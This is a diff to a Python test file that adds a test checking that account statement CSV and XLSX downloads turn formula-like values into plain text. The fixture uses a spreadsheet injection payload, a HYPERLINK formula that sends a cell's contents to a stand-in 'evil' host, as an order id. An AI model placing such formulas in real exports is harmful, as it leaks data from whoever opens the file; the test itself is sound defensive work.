@@ -241,3 +241,26 @@ def test_nice_ceilings_and_a_line_chart_that_breaks_where_there_is_no_value() ->
     assert [tick["label"] for tick in chart.x_ticks] == ["a", "b", "c", "d", "e"]
     single = line_chart(["x"], [Series("one", "One", ["3.00"])])
     assert single.paths[0]["d"] == "M336.0,106.4"
+
+
+def test_a_formula_in_an_order_id_is_text_in_the_statement_downloads() -> None:
+    """CSV injection: an order id a holder chose that starts like a formula stays text."""
+    from creditline.adapters.spreadsheets import statement_csv, statement_xlsx_bytes
+
+    row = dict.fromkeys(("time_local", "type_zh", "type", "flow", "from_account"))
+    row |= {"order": '=HYPERLINK("http://evil/"&A1,"x")', "to_account": "@SUM(1)"}
+    row |= dict.fromkeys(("amount", "available", "held", "occupied", "frozen"), "-10.00")
+    row["fees_due"] = "0.00"
+    text = statement_csv([row])
+    assert "'=HYPERLINK" in text
+    assert "'@SUM(1)" in text
+    assert ",-10.00," in text  # amounts are numbers, never prefixed
+    import io
+
+    from openpyxl import load_workbook  # type: ignore[import-untyped]
+
+    body = {"line": "line_x", "from": "2024-05-01", "to": "2024-05-31", "currency": "CNY"}
+    book = load_workbook(io.BytesIO(statement_xlsx_bytes(body | {"rows": [row]})))
+    cells = [c for c in book.active[3] if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert '\'=HYPERLINK("http://evil/"&A1,"x")' in [c.value for c in cells]
